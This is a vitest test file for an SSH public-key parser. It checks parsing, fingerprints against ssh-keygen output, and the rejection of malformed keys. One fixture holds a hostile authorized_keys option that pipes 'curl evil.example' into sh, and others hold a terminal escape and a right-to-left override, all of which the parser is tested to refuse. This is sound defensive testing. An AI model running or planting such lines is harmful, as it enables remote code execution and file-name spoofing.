import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  authorizedKeyLine,
  commentProblem,
  InvalidPublicKeyError,
  parseUserKey,
} from '../../../activities/keys/user-keys';

// Every key here is made by OpenSSH, and every fingerprint and size is the one it prints.
const SSH_KEYGEN = '/usr/bin/ssh-keygen';
const execFileAsync = promisify(execFile);

async function sshKeygen(args: string[]): Promise<string> {
  return (await execFileAsync(SSH_KEYGEN, args, { timeout: 60_000, encoding: 'utf8' })).stdout;
}

/** Name, then ssh-keygen's -t and -b. */
const made = [
  ['ed25519', 'ed25519', undefined],
  ['ecdsa-256', 'ecdsa', '256'],
  ['ecdsa-384', 'ecdsa', '384'],
  ['ecdsa-521', 'ecdsa', '521'],
  ['rsa-3072', 'rsa', '3072'],
  ['rsa-4096', 'rsa', '4096'],
  ['rsa-2048', 'rsa', '2048'],
  ['dsa', 'dsa', undefined],
] as const;
type Made = (typeof made)[number][0];

let dir: string;
const lines = new Map<string, string>();

/** The `.pub` line of a key made in beforeAll (or written by a test), with its newline. */
function line(name: string): string {
  const text = lines.get(name);
  if (text === undefined) throw new Error(`no key ${name}`);
  return text;
}

function algorithmAndBlob(name: string): [string, string] {
  const [algorithm = '', blob = ''] = line(name).split(' ');
  return [algorithm, blob];
}

function keyOnly(name: string): string {
  return algorithmAndBlob(name).join(' ');
}

function blobBytes(name: string): Buffer {
  return Buffer.from(algorithmAndBlob(name)[1], 'base64');
}

function sshString(value: Buffer | string): Buffer {
  const bytes = typeof value === 'string' ? Buffer.from(value, 'latin1') : value;
  const length = Buffer.alloc(4);
  length.writeUInt32BE(bytes.length);
  return Buffer.concat([length, bytes]);
}

/** The fields of a blob, each an SSH string (mpints included). */
function blobFields(blob: Buffer): Buffer[] {
  const fields: Buffer[] = [];
  for (let offset = 0; offset < blob.length;) {
    const length = blob.readUInt32BE(offset);
    fields.push(blob.subarray(offset + 4, offset + 4 + length));
    offset += 4 + length;
  }
  return fields;
}

function lineOf(algorithm: string, fields: (Buffer | string)[], comment = ''): string {
  const blob = Buffer.concat([sshString(algorithm), ...fields.map(sshString)]);
  return `${algorithm} ${blob.toString('base64')}${comment ? ` ${comment}` : ''}`;
}

/** What `ssh-keygen -l -E sha256` prints for a line: bits, fingerprint, comment, (TYPE). */
async function listed(text: string): Promise<{ bits: number; fingerprint: string }> {
  const file = join(dir, `listed-${lines.size}-${Math.random().toString(36).slice(2)}.pub`);
  writeFileSync(file, `${text}\n`);
  const [bits = '', fingerprint = ''] = (await sshKeygen(['-l', '-E', 'sha256', '-f', file])).split(
    ' ',
  );
  return { bits: Number(bits), fingerprint };
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'berth-user-keys-'));
  await Promise.all(
    made.map(async ([name, type, bits]) => {
      const file = join(dir, name);
      await sshKeygen([
        '-q',
        '-t',
        type,
        ...(bits ? ['-b', bits] : []),
        '-N',
        '',
        '-C',
        `${name} key of alice@laptop`,
        '-f',
        file,
      ]);
      lines.set(name, readFileSync(`${file}.pub`, 'utf8'));
    }),
  );
  // A certificate of the Ed25519 key, signed by a CA key.
  await sshKeygen(['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, 'ca')]);
  await sshKeygen([
    '-q',
    '-s',
    join(dir, 'ca'),
    '-I',
    'alice',
    '-n',
    'alice',
    join(dir, 'ed25519.pub'),
  ]);
  lines.set('certificate', readFileSync(join(dir, 'ed25519-cert.pub'), 'utf8'));
  // Security keys need a FIDO device to make; their public halves are the key plus the
  // application, built here from the keys above.
  const [ed25519Key] = blobFields(blobBytes('ed25519')).slice(1);
  lines.set('ed25519-sk', lineOf('sk-ssh-ed25519@openssh.com', [ed25519Key!, 'ssh:'], 'fido'));
  const [, curve, point] = blobFields(blobBytes('ecdsa-256'));
  lines.set('ecdsa-sk', lineOf('sk-ecdsa-sha2-nistp256@openssh.com', [curve!, point!, 'ssh:']));
}, 120_000);

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

describe(parseUserKey.name, () => {
  it.each([
    ['ed25519', 'ed25519', 256],
    ['ecdsa-256', 'ecdsa', 256],
    ['ecdsa-384', 'ecdsa', 384],
    ['ecdsa-521', 'ecdsa', 521],
    ['rsa-3072', 'rsa', 3072],
    ['rsa-4096', 'rsa', 4096],
  ] as const)(
    'reads an ssh-keygen %s key with the size and fingerprint ssh-keygen -l prints',
    async (name: Made, type, bits) => {
      const key = parseUserKey(line(name));

      expect(key).toEqual({
        type,
        bits,
        publicKey: keyOnly(name),
        fingerprint: (await listed(line(name))).fingerprint,
        comment: `${name} key of alice@laptop`,
      });
      expect(await listed(line(name))).toEqual({ bits, fingerprint: key.fingerprint });
      expect(key.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
    },
  );

  it.each([
    ['ed25519-sk', 'ed25519-sk'],
    ['ecdsa-sk', 'ecdsa-sk'],
  ] as const)('reads a %s security key as ssh-keygen -l does', async (name, type) => {
    const key = parseUserKey(line(name));

    expect(key).toMatchObject({ type, bits: 256, publicKey: keyOnly(name) });
    expect(await listed(line(name))).toEqual({ bits: 256, fingerprint: key.fingerprint });
  });

  it('takes a line without a comment, and surrounding white space', () => {
    expect(parseUserKey(`  ${keyOnly('ed25519')}\r\n`)).toMatchObject({
      publicKey: keyOnly('ed25519'),
      comment: null,
    });
  });

  it('keeps a comment as written, inner spaces included', () => {
    const comment = 'zoe@laptop  (work) 2026-01-01 ~!#$%^&*"\'`';
    expect(parseUserKey(`${keyOnly('ed25519')} ${comment}`).comment).toBe(comment);
  });

  it('fingerprints the key, not the comment', () => {
    expect(parseUserKey(`${keyOnly('rsa-3072')} one`).fingerprint).toBe(
      parseUserKey(`${keyOnly('rsa-3072')} two`).fingerprint,
    );
  });

  const ed25519Fields = () => blobFields(blobBytes('ed25519'));
  const rsaFields = () => blobFields(blobBytes('rsa-3072'));
  const p256Fields = () => blobFields(blobBytes('ecdsa-256'));

  // Lines are built lazily: the keys exist only once beforeAll has run.
  it.each([
    ['an empty input', () => ' \n', /no key given/],
    ['a DSA key', () => line('dsa'), /DSA keys are not accepted/],
    ['an RSA key of 2048 bits', () => line('rsa-2048'), /at least 3072 bits; this one has 2048/],
    [
      'an RSA key of 3071 bits',
      () => {
        const [, e, n] = rsaFields();
        // A top byte of 01xxxxxx makes the 3072-bit modulus a 3071-bit number (no sign byte).
        const short = Buffer.from(n![0] === 0 ? n!.subarray(1) : n!);
        short[0] = 0x40 | (short[0]! & 0x3f);
        return lineOf('ssh-rsa', [e!, short]);
      },
      /this one has 3071/,
    ],
    [
      'an RSA key with an even exponent',
      () => lineOf('ssh-rsa', [Buffer.of(0x01, 0x00, 0x00), rsaFields()[2]!]),
      /exponent that is not an odd number/,
    ],
    ['a certificate', () => line('certificate'), /certificates are not accepted/],
    [
      'an unknown algorithm',
      () => `ssh-foo ${algorithmAndBlob('ed25519')[1]}`,
      /unsupported key type "ssh-foo"/,
    ],
    ['an algorithm with no key', () => 'ssh-ed25519', /has no key data/],
    [
      'characters outside base64',
      () => `ssh-ed25519 ${algorithmAndBlob('ed25519')[1].slice(0, -4)}!!!!`,
      /not canonical base64/,
    ],
    [
      'base64 without its padding',
      () => `ecdsa-sha2-nistp256 ${algorithmAndBlob('ecdsa-256')[1].replace(/=+$/, '')}`,
      /not canonical base64/,
    ],
    ['a blob that ends after its algorithm', () => lineOf('ssh-ed25519', []), /cut short/],
    [
      'a blob cut inside its key',
      () => {
        const blob = blobBytes('ecdsa-256');
        return `ecdsa-sha2-nistp256 ${blob.subarray(0, blob.length - 6).toString('base64')}`;
      },
      /cut short/,
    ],
    [
      'bytes after the last field of the blob',
      () =>
        `ssh-ed25519 ${Buffer.concat([blobBytes('ed25519'), Buffer.from('garbage')]).toString('base64')}`,
      /bytes after its last field/,
    ],
    [
      'a blob of another algorithm than the line names',
      () => `ssh-rsa ${algorithmAndBlob('ed25519')[1]}`,
      /the key data is a "ssh-ed25519" key, not the ssh-rsa key/,
    ],
    [
      'a P-256 blob named as P-384',
      () => lineOf('ecdsa-sha2-nistp384', p256Fields().slice(1)),
      /not on curve nistp384/,
    ],
    [
      'an ECDSA point that is not on its curve',
      () => {
        const [, curve, point] = p256Fields();
        const moved = Buffer.from(point!);
        moved[40] = moved[40]! ^ 0x01;
        return lineOf('ecdsa-sha2-nistp256', [curve!, moved]);
      },
      /not a point on curve nistp256/,
    ],
    [
      'a compressed ECDSA point',
      () => {
        const [, curve, point] = p256Fields();
        return lineOf('ecdsa-sha2-nistp256', [
          curve!,
          Buffer.concat([Buffer.of(0x02), point!.subarray(1, 33)]),
        ]);
      },
      /not an uncompressed nistp256 point/,
    ],
    [
      'an Ed25519 key of 31 bytes',
      () => lineOf('ssh-ed25519', [ed25519Fields()[1]!.subarray(1)]),
      /not a 32-byte Ed25519 key/,
    ],
    [
      'a security key without an application',
      () => lineOf('sk-ssh-ed25519@openssh.com', [ed25519Fields()[1]!, '']),
      /no printable security key application/,
    ],
    [
      'authorized_keys options before the key',
      () => `command="curl evil.example | sh" ${line('ed25519')}`,
      /options \(such as command= or from=\) are not accepted/,
    ],
    [
      'a single option before the key',
      () => `no-pty ${line('ed25519')}`,
      /options .* are not accepted/,
    ],
    [
      'two keys on two lines',
      () => `${line('ed25519')}${line('ecdsa-256')}`,
      /one key per request: the text has several lines/,
    ],
    [
      'a key, a line break and a comment',
      () => `${keyOnly('ed25519')}\nssh-ed25519 x`,
      /several lines/,
    ],
    [
      'two keys on one line',
      () => `${keyOnly('ed25519')} ${keyOnly('rsa-3072')}`,
      /one key per request: the line holds another key/,
    ],
    [
      'more than 16 KiB',
      () => `${keyOnly('ed25519')} ${'a'.repeat(16 * 1024)}`,
      /longer than 16384 bytes/,
    ],
    [
      'a comment of 101 characters',
      () => `${keyOnly('ed25519')} ${'c'.repeat(101)}`,
      /comment is refused: a comment has at most 100 characters/,
    ],
    [
      'a terminal escape in the comment',
      () => `${keyOnly('ed25519')} \u001b[2Jalice`,
      /comment is refused: a comment is printable ASCII text/,
    ],
    ['a tab in the comment', () => `${keyOnly('ed25519')} alice\tbob`, /comment is refused/],
    [
      'a letter outside ASCII in the comment',
      () => `${keyOnly('ed25519')} Zoë`,
      /comment is refused/,
    ],
    [
      'a right-to-left override in the comment',
      () => `${keyOnly('ed25519')} alice\u202egpj.exe`,
      /comment is refused/,
    ],
  ])('refuses %s, saying why', (_, text, reason) => {
    expect(() => parseUserKey(text())).toThrow(InvalidPublicKeyError);
    expect(() => parseUserKey(text())).toThrow(reason);
  });

  it('takes 100 characters of comment', () => {
    const comment = 'e'.repeat(100);
    expect(parseUserKey(`${keyOnly('ed25519')} ${comment}`).comment).toBe(comment);
  });
});

describe(commentProblem.name, () => {
  it.each([
    ['', undefined],
    ['work laptop', undefined],
    ['x'.repeat(100), undefined],
    ['x'.repeat(101), 'a comment has at most 100 characters'],
    [
      'a\nb',
      'a comment is printable ASCII text: no control characters, line breaks or other scripts',
    ],
    [
      'a\u0000b',
      'a comment is printable ASCII text: no control characters, line breaks or other scripts',
    ],
    [
      'a\u200bb',
      'a comment is printable ASCII text: no control characters, line breaks or other scripts',
    ],
  ])('answers %j with %j', (comment, problem) => {
    expect(commentProblem(comment)).toBe(problem);
  });
});

describe(authorizedKeyLine.name, () => {
  it('puts the comment after the key, and nothing when there is none', () => {
    expect(authorizedKeyLine({ publicKey: 'ssh-ed25519 AAAA', comment: 'laptop' })).toBe(
      'ssh-ed25519 AAAA laptop',
    );
    expect(authorizedKeyLine({ publicKey: 'ssh-ed25519 AAAA', comment: null })).toBe(
      'ssh-ed25519 AAAA',
    );
  });

  it('gives a line ssh-keygen reads back as the same key', async () => {
    const key = parseUserKey(line('ecdsa-384'));
    const listedLine = await listed(authorizedKeyLine(key));
    expect(listedLine).toEqual({ bits: 384, fingerprint: key.fingerprint });
  });
});
